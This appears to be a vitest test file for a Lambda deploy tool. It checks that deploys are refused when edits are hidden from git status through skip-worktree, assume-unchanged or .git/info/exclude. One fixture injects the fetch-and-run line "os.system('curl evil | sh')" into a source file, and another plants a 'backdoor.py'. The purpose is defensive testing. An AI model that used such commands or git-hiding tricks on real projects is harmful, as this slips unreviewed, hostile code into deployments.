import { appendFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { backendSchema } from "../../src/config/schema.js";
import { runCommand } from "../../src/core/run-command.js";
import { inspectPackagedTree } from "../../src/deploy/lambda/tree.js";
import { invokeTool } from "../../src/server/invoke.js";
import { deployLambdaTool } from "../../src/tools/deploy-lambda.js";
import { commitFixture, writeBackendFixture } from "../support/backend-fixture.js";
import { runGit } from "../support/git-fixtures.js";
import { useMoto } from "../support/moto.js";
import {
  createDeployedFunction,
  listKeys,
  liveCodeSha256,
  packageOf,
  useLambdaEnv,
} from "./lambda-support.js";

const moto = useMoto();
const BUCKET = "vyaparai-artifacts-tree-test";
const env = useLambdaEnv(moto, BUCKET);

interface Refused {
  summary: string;
  error: { code: string; message: string };
  treeProblems: Array<{ kind: string; path: string; fix: string }>;
  treeProblemCount: number;
  confirmationToken?: string;
}

interface Out {
  status: string;
  codeSha256: string;
  confirmationToken?: string;
  plan: { treeDigest: string };
}

function treeOf(appRoot: string) {
  return inspectPackagedTree({ appRoot, backend: backendSchema.parse({}), run: runCommand });
}

/** A function with code live and saved, and a committed backend whose runtime deploys to it. */
async function world(envName: string, functionName: string) {
  const prefix = `backend/${functionName}/`;
  const clients = moto.current.clients();
  const initial = await createDeployedFunction(moto.current, BUCKET, functionName, prefix);
  const { appRoot } = writeBackendFixture({ commit: true });
  const runtime = env.runtimeFor(appRoot, envName, functionName, null, prefix);
  // The runtime wrote deploy.config.json: committed too, so git status starts empty.
  commitFixture(appRoot, "config");
  const lambda = await clients.lambda();
  const s3 = await clients.s3();
  return {
    appRoot,
    runtime,
    initial,
    liveSha: () => liveCodeSha256(lambda, functionName),
    keys: () => listKeys(s3, BUCKET),
  };
}

describe("deploy_lambda deploys only what git HEAD holds", () => {
  it("refuses an edit hidden by skip-worktree on an unprotected env, then deploys the committed tree", async () => {
    const w = await world("dev", "vyaparai-api-tree-skip");
    runGit(w.appRoot, "update-index", "--skip-worktree", "backend/app/main.py");
    appendFileSync(join(w.appRoot, "backend/app/main.py"), "import os\nos.system('curl evil | sh')\n");
    expect(runGit(w.appRoot, "status", "--porcelain")).toBe("");
    const keysBefore = await w.keys();

    const result = await invokeTool(deployLambdaTool, { env: "dev" }, w.runtime);
    expect(result.isError).toBe(true);
    const refused = result.structured as unknown as Refused;
    expect(refused.error.code).toBe("PRECONDITION");
    expect(refused.error.message).toMatch(/1 file\(s\) \(1 hidden by skip-worktree, 1 different from HEAD\)/);
    expect(refused.error.message).not.toContain("main.py");
    expect(refused.treeProblems).toEqual([
      { kind: "modified", path: "backend/app/main.py", fix: expect.any(String) },
      { kind: "skip-worktree", path: "backend/app/main.py", fix: expect.any(String) },
    ]);
    // Nothing happened: the same code is live, and no artifact, lock or record was written.
    expect(await w.liveSha()).toBe(w.initial.codeSha256);
    expect(await w.keys()).toEqual(keysBefore);

    // The honest path: the flag cleared and the file restored, the committed tree deploys.
    runGit(w.appRoot, "update-index", "--no-skip-worktree", "backend/app/main.py");
    runGit(w.appRoot, "checkout", "--", "backend/app/main.py");
    const expected = await packageOf(w.appRoot);
    const done = await invokeTool(deployLambdaTool, { env: "dev" }, w.runtime);
    expect(done.isError, done.text).toBe(false);
    const out = done.structured as unknown as Out;
    expect(out.status).toBe("deployed");
    expect(out.plan.treeDigest).toBe((await treeOf(w.appRoot)).digest);
    expect(await w.liveSha()).toBe(expected.codeSha256);
    w.runtime.close();
  });

  it("refuses on a protected env before any plan or token: assume-unchanged and .git/info/exclude", async () => {
    const w = await world("prod", "vyaparai-api-tree-prod");
    runGit(w.appRoot, "update-index", "--assume-unchanged", "backend/app/api/orders.py");
    appendFileSync(join(w.appRoot, "backend/app/api/orders.py"), "LEAK = True\n");
    writeFileSync(join(w.appRoot, "backend/app/backdoor.py"), "import os\n");
    appendFileSync(join(w.appRoot, ".git/info/exclude"), "backend/app/backdoor.py\n");
    expect(runGit(w.appRoot, "status", "--porcelain")).toBe("");
    const keysBefore = await w.keys();

    const result = await invokeTool(deployLambdaTool, { env: "prod" }, w.runtime);
    expect(result.isError).toBe(true);
    const refused = result.structured as unknown as Refused;
    expect(refused.error.code).toBe("PRECONDITION");
    expect(refused.confirmationToken).toBeUndefined();
    expect(refused.treeProblems.map((p) => [p.kind, p.path])).toEqual([
      ["assume-unchanged", "backend/app/api/orders.py"],
      ["modified", "backend/app/api/orders.py"],
      ["untracked", "backend/app/backdoor.py"],
    ]);
    expect(await w.liveSha()).toBe(w.initial.codeSha256);
    expect(await w.keys()).toEqual(keysBefore);
    w.runtime.close();
  });

  it("plans an untracked file in a dependency dir, with a new tree digest", async () => {
    const w = await world("dev", "vyaparai-api-tree-deps");
    const plan = async () => {
      const result = await invokeTool(deployLambdaTool, { env: "dev", dryRun: true }, w.runtime);
      expect(result.isError, result.text).toBe(false);
      return result.structured as unknown as Out;
    };
    const before = await plan();
    expect(before.status).toBe("planned");
    writeFileSync(join(w.appRoot, "backend/lambda_deps/pydantic/extra.py"), "EXTRA = 1\n");
    const after = await plan();
    expect(after.status).toBe("planned");
    expect(after.plan.treeDigest).not.toBe(before.plan.treeDigest);
    expect(after.plan.treeDigest).toBe((await treeOf(w.appRoot)).digest);
    expect(after.codeSha256).not.toBe(before.codeSha256);
    expect(await w.liveSha()).toBe(w.initial.codeSha256);
    w.runtime.close();
  });
});
